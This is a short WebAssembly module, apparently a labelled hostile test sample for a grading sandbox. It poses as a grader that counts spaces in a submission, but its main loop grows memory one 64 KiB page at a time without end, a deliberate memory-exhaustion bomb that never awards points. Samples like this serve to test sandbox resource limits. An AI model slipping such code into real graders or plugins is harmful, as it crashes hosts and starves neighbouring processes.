;; Hostile: a memory bomb.
;; Looks like a checker that keeps a copy of the submission for each pass over it, to compare the passes. It
;; never frees one, never stops, and each copy takes a whole page of memory (65,536 bytes) for a line of text.
;; Behind walls: the growth above the limit ends the run. Elsewhere: memory is gone, and with it its neighbours.
(module
  (import "lanewise" "submission_len" (func $length (result i32)))
  (import "lanewise" "submission_read" (func $read (param $to i32) (param $from i32) (param $len i32) (result i32)))
  (import "lanewise" "award" (func $award (param $points i32)))

  (memory (export "memory") 1)

  (func (export "grade") (local $page i32) (local $len i32) (local $at i32) (local $words i32)
    (local.set $len (call $length))
    (loop $pass
      ;; The copy of this pass, on a page of its own.
      (drop (call $read (i32.mul (local.get $page) (i32.const 65536)) (i32.const 0) (local.get $len)))
      ;; Count the spaces in it, as if that told good answers from bad ones.
      (local.set $at (i32.const 0))
      (loop $next
        (if (i32.lt_u (local.get $at) (local.get $len)) (then
          (local.set $words (i32.add (local.get $words)
            (i32.eq (i32.const 32)
              (i32.load8_u (i32.add (i32.mul (local.get $page) (i32.const 65536)) (local.get $at))))))
          (local.set $at (i32.add (local.get $at) (i32.const 1)))
          (br $next))))
      ;; One more page, and once more from the start.
      (local.set $page (memory.grow (i32.const 1)))
      (br $pass))
    (call $award (local.get $words))))
